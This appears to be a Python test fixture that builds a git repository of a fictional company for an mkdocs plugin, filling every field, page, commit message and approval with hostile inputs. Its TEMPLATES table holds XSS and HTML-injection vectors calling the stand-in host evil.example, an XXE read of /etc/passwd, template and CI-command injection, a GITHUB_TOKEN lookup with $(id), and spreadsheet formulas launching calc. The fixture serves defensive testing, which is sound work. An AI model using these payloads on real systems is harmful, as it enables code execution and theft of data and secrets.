"""A company in which everything that may be words is hostile: each payload in every place that takes words.

Its history is fed to git as a stream, so that bytes no command line takes are in it too.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping, Sequence
from functools import cache
from pathlib import Path

from mkdocs_playbook.sources.corrections import corrections_of
from tests.checks.company import CONFIG
from tests.checks.company import TODAY as DAY

EVIL = "evil.example"
BASE = "https://playbook.example/"
TEMPLATES: Mapping[str, str] = {
    "script": "<script>{m}()</script>",
    "script, unclosed": "<script src=//evil.example/{m}.js>",
    "handler": "<img src=x onerror={m}()>",
    "handler after a quotation mark": "\" onmouseover=\"{m}()\" x=\"",
    "handler after an apostrophe": "' onfocus='{m}()' autofocus x='",
    "handler after a backtick": "` onclick=`{m}()`",
    "end of a tag": "\"><b onclick={m}()>{m}</b>",
    "address that runs": "javascript:{m}()",
    "address that runs, in a link": "[{m}](javascript:{m}())",
    "address that runs, in an entity": "<a href=\"&#106;avascript:{m}()\">{m}</a>",
    "data address": "<iframe src=\"data:text/html,<script>{m}()</script>\"></iframe>",
    "drawing": "<svg onload={m}()><script>{m}()</script></svg>",
    "formula of MathML": "<math><a xlink:href=\"javascript:{m}()\">{m}</a></math>",
    "style": "</style><style>*{{background:url(//evil.example/{m})}}</style>",
    "form": "<form action=//evil.example/{m}><button formaction=javascript:{m}()>",
    "base": "<base href=//evil.example/{m}>",
    "refresh": "<meta http-equiv=refresh content=0;url=//evil.example/{m}>",
    "end of a script": "</script><script>{m}()</script>",
    "end of a title": "</title></textarea><script>{m}()</script>",
    "end of CDATA": "]]><script>{m}()</script><![CDATA[",
    "end of a comment": "--><script>{m}()</script><!--",
    "start of a comment": "<!-- {m}",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;{m}",
    "entities": "&lt;script&gt;{m}()&lt;/script&gt;&amp;&#60;b&#62;",
    "half an entity": "&lt &#x &{m} &amp",
    "template": "{{{{ 7 * 7 }}}}{m}{{% raw %}}{{{{ config }}}}",
    "template, ended": "{{% endraw %}}{{% endfor %}}{{# {m} #}}",
    "secrets": "${{{{ secrets.GITHUB_TOKEN }}}} {m} $(id) `id`",
    "format": "%s %(name)s {{0}} {{m.__class__}} {m}",
    "Markdown link": "[{m}](https://evil.example/{m})",
    "Markdown picture": "![{m}](https://evil.example/{m}.png)",
    "reference": "[{m}][support agent] [^1] *[{m}]: x",
    "autolink": "<https://evil.example/{m}> https://evil.example/{m} www.evil.example",
    "Markdown": "**{m}** _x_ `{m}` ~~x~~ | a | b | # {m} > x",
    "attributes of Markdown": "{m}{{: onclick=\"{m}()\" .x }}",
    "mention": "@everyone @org/{m} #1 GH-2 !3 org/repo#4 {m}",
    "colours of a terminal": "\x1b[31m{m}\x1b[0m\x1b]0;{m}\x07\x1b]8;;https://evil.example\x1b\\",
    "line ends": "{m}\r::error::{m}\r\n::error file=x::{m}\n##[error]{m}",
    "command of a CI": "::error::{m}",
    "command of another CI": "##vso[task.setvariable variable=x]{m} ##[error]{m}",
    "nothing": "\x00\x01{m}\x08\x0b\x0c\x7f\x9f",
    "nothing, written": "%00{m}\\0\\x00\\u0000%0a%0d{m}",
    "other direction": "\u202e{m}\u202c\u2066{m}\u2069\u200f\u061c",
    "no width": "{m}\u200b\u200c\u200d\u2060\ufeff\u00ad{m}",
    "line separators": "{m}\u2028::error::{m}\u2029##[error]{m}\x85::error::{m}",
    "formula": "=HYPERLINK(\"https://evil.example/{m}\";\"{m}\")",
    "formula, plus": "+{m}+cmd|' /C calc'!A0",
    "formula, minus": "-{m}-2+3",
    "formula, at": "@SUM({m})",
    "formula after a tab": "\t={m}",
    "end of YAML": "{m}: \"'}}]\n---\nowner: {m}\n...",
    "end of JSON": "{m}\"}}],\"x\":[{{\"y\":\"\\u0022",
    "backslash": "{m}\\",
    "very long": "{m}" + "<b>" * 20_000,
    "one long word": "{m}" + "x" * 20_000,
    "right to left": "{m} שלום עולם مرحبا",
    "emoji": "{m} 👩‍👩‍👧‍👦 🏳️‍🌈 :tada:",
    "half a character": "{m}\udced\udca0\udc80<b>\udcff\udcfe",
    "not in XML": "{m}\ufffe\uffff\x02",
    "many accents": "{m}" + "e" + "\u0301" * 300,
}  # fmt: skip
NAMES = tuple(TEMPLATES)


def marker(number: int) -> str:
    return f"pwn{number:02}q"


PAYLOADS = tuple(template.format(m=marker(number)) for number, template in enumerate(TEMPLATES.values()))
_CUT = 400
"""Characters of a payload in a header, which may hold 16 KiB and has it in many places."""


def written(payload: str) -> str:
    """The payload as a value of YAML."""
    return json.dumps(payload[:_CUT].encode("utf-8", "surrogateescape").decode("utf-8", "replace"), ensure_ascii=False)


@cache
def refused(payload: str) -> bool:
    """Whether a header may not hold it: characters nobody sees make a page, or a list of corrections, unreadable."""
    return not corrections_of(f"- {{commit: 1234567, reason: {written(payload)}, by: x, on: 2026-01-01}}\n", "", DAY)[0]


def yaml(payload: str) -> str:
    """The payload where a page may hold it; what is refused is tried by itself."""
    return '"refused"' if refused(payload) else written(payload)


def header(number: int, payload: str) -> str:
    """A process whose every value is the payload."""
    word = yaml(payload)
    return f"""\
---
title: {word}
description: {word}
owner: role-{number:02}
deputy: {word}
reviewed: 2026-09-14
reviewed_by: {word}
review_note: {word}
review_every: 6 months
trigger: {word}
deadline: {word}
frequency: {word}
systems: [{word}, s-{number:02}]
forms: [{word}, f-{number:02}]
inputs: [{{what: {word}, from: {word}}}]
outputs: [{{what: {word}, to: {word}}}]
informed: [{word}]
consulted: [{word}]
approvers: [{word}]
also_called: [{word}]
part_of: [c-{number:02}]
---

We work.

## Steps

1. [Role](/roles/role-{number:02}.md) begins.
2. Somebody ends.
"""


def stamped(number: int) -> str:
    """The same page before it was hostile."""
    return f"---\ntitle: Page {number}\nowner: lead\n---\n\nWe work.\n\n## Steps\n\n1. Begin.\n2. Somebody ends.\n"


CLEAN = "---\ntitle: Body {number}\nowner: lead\n---\n\nWe work.\n\n## Steps\n\n1. Begin.\n2. End.\n\n## Limits\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"


def body(number: int, payload: str) -> str:
    """A text with the payload in a step, a heading, a table, a list, code and an opening; it stands for one version."""
    line = " ".join(payload.splitlines()) or "x"
    return (
        f"---\ntitle: Body {number}\nowner: lead\n---\n\nWe work. {payload}\n\n## Steps\n\n1. Begin.\n2. End.\n"
        f"3. {line}\n\n## {line}\n\n- {line}\n\n```\n{payload}\n```\n\n## Limits\n\n"
        f"| a | b |\n|---|---|\n| 1 | {line} |\n"
    )


def pages(number: int, payload: str) -> dict[str, str]:
    """What one payload brings beside its processes."""
    word, folder = yaml(payload), f"processes/f{number:02}"
    return {
        f"{folder}/gone.md": (
            f"---\ntitle: {word}\nowner: role-{number:02}\nsuperseded_by: {word}\n---\n\nWe worked.\n\n## Steps\n\n"
            f"1. [Role](/roles/role-{number:02}.md) began.\n"
        ),
        f"{folder}/index.md": f"---\ntitle: {word}\nhead: role-{number:02}\n---\n",
        f"{folder}/old.md": (
            f"---\ntitle: {word}\nowner: lead\nstate: retired\nsuperseded_by: none\nretired_because: {word}\n---\n\nOld.\n"
        ),
        f"{folder}/lone.md": f"---\ntitle: {word}\nowner: {word}\nkind: {word}\nreview_every: {word}\n---\n\nLone.\n",
        f"{folder}/held.md": f"---\ntitle: Held {number}\nowner: lead\n---\n\nWe work.\n\n## Steps\n\n1. Begin.\n",
        f"{folder}/held.next.md": (
            f"---\nreplaces: f{number:02}/held\neffective: 2027-01-01\ntitle: {word}\ndeadline: {word}\n---\n\n"
            "We work.\n\n## Steps\n\n1. Begin.\n2. End.\n"
        ),
        f"roles/role-{number:02}.md": (
            f"---\ntitle: {word}\nalso_called: [{word}]\nholders: [p-{number:02}]\nheld_by: {word}\n"
            f"support: [{{at: {word}, sponsor: {word}, peers: [{word}]}}]\n---\n\nYou work.\n"
        ),
    }  # fmt: skip


def named(payload: str) -> str:
    """What is in brackets alone counts as a placeholder, and a person without a name stops the build."""
    return f"A {payload}" if payload[0] in "<{" else payload


def registers(payloads: Sequence[str]) -> dict[str, str]:
    def entries(letter: str, keys: tuple[str, ...]) -> str:
        return "".join(
            f"{letter}-{number:02}:\n" + "".join(f"  {key}: {yaml(payload)}\n" for key in keys)
            for number, payload in enumerate(payloads)
        )

    return {
        "roles/people.yml": "".join(
            f"p-{number:02}:\n  name: {yaml(named(payload))}\n" for number, payload in enumerate(payloads)
        ),
        "processes/chains.yml": entries("c", ("title", "meaning")),
        "processes/systems.yml": entries("s", ("name", "meaning")),
        "processes/forms.yml": entries("f", ("name", "meaning")),
    }


def message(payload: str) -> str:
    """The payload in the subject, as every trailer, and as a co-author."""
    keys = ("Amendment", "Reason", "Approved-by", "Reviewed-by", "Effective")
    lines = "\n".join(f"{key}: {payload}" for key in keys)
    return f"{payload} (#7)\n\n{lines}\nCo-authored-by: {payload.replace('<', '‹')} <x@example.org>\n"


class Stream:
    """Commits as `git fast-import` reads them, an hour apart."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []
        self.count = 0

    def commit(
        self, words: str, files: Mapping[str, str], author: str = "Mia Berg", removed: Sequence[str] = ()
    ) -> None:
        self.count += 1
        name = raw(author).translate(None, b"<>\n\0") or b"x"
        when = b"%d +0000" % (1767225600 + 3600 * self.count)
        self.parts.append(b"commit refs/heads/main\nmark :%d\n" % self.count)
        self.parts.append(b"author %s <a@example.org> %s\ncommitter Mia <m@example.org> %s\n" % (name, when, when))
        self.data(raw(words).replace(b"\0", b""))
        if self.count > 1:
            self.parts.append(b"from :%d\n" % (self.count - 1))
        self.parts += [b'D "%s"\n' % quoted(path) for path in removed]
        for path, text in files.items():
            self.parts.append(b'M 100644 inline "%s"\n' % quoted(path))
            self.data(raw(text))

    def data(self, content: bytes) -> None:
        self.parts.append(b"data %d\n%s\n" % (len(content), content))


def raw(text: str) -> bytes:
    return text.encode("utf-8", "surrogateescape")


def quoted(path: str) -> bytes:
    return b"".join(b"\\%03o" % each if each in b'"\\' or each < 32 else bytes((each,)) for each in raw(path))


def company(folder: Path, home: Path, payloads: Sequence[str] = PAYLOADS) -> Path:
    """The company in a repository: clean, then hostile, one commit for each payload; then clean again, removed, put right."""
    stream = Stream()
    numbered = list(enumerate(payloads))
    first = {
        "mkdocs.yml": CONFIG.replace("site_name: Company", f"site_name: Company\nsite_url: {BASE}"),
        "roles/lead.md": "---\ntitle: Lead\nheld_by: one\n---\n\nYou lead.\n",
    }
    for number, _ in numbered:
        first[f"processes/f{number:02}/all.md"] = stamped(number)
        first[f"processes/f{number:02}/body.md"] = CLEAN.replace("{number}", str(number))
    stream.commit("Write it down", first)
    for number, payload in numbered:
        files = {"all.md": header(number, payload), "body.md": body(number, payload)}
        stream.commit(
            message(payload), {f"processes/f{number:02}/{name}": text for name, text in files.items()}, payload
        )
    for number, payload in numbered:
        text = CLEAN.replace("{number}", str(number))
        stream.commit(f"Merge branch '{payload}'\n\n{payload}", {f"processes/f{number:02}/body.md": text}, payload)
    beside = registers(payloads)
    for number, payload in numbered:
        beside |= pages(number, payload)
    stream.commit("Everything else", beside)
    for number, payload in numbered:
        stream.commit(message(payload), {}, payload, removed=[f"processes/f{number:02}/gone.md"])
    imported(folder, home, stream)
    commits = git(folder, home, "rev-list", "--reverse", "main").split()[1 : len(payloads) + 1]
    (folder / "processes/corrections.yml").write_text(corrections(commits, payloads), encoding="utf-8")
    (folder / "approvals.json").write_text(json.dumps(approvals(commits, payloads)), encoding="utf-8")
    return folder


def corrections(commits: Sequence[str], payloads: Sequence[str]) -> str:
    return "".join(
        f"- {{commit: {commit!r}, class: minor, reason: {yaml(payload)}, by: {yaml(payload)}, on: 2026-11-01}}\n"
        for commit, payload in zip(commits, payloads, strict=True)
    )


def approvals(commits: Sequence[str], payloads: Sequence[str]) -> list[object]:
    return [
        {
            "number": number,
            "state": "MERGED",
            "mergeCommit": {"oid": commit},
            "reviews": [{"author": {"name": payload}, "state": "APPROVED"}],
        }
        for number, (commit, payload) in enumerate(zip(commits, payloads, strict=True))
    ]


def imported(folder: Path, home: Path, stream: Stream) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    git(folder, home, "init", "-q", "-b", "main")
    git(folder, home, "fast-import", "--quiet", feed=b"".join(stream.parts))
    git(folder, home, "reset", "-q", "--hard")


def git(folder: Path, home: Path, *words: str, feed: bytes | None = None) -> str:
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(["git", *words], cwd=folder, env=environment, input=feed, capture_output=True, check=True)
    return done.stdout.decode("utf-8", "replace")
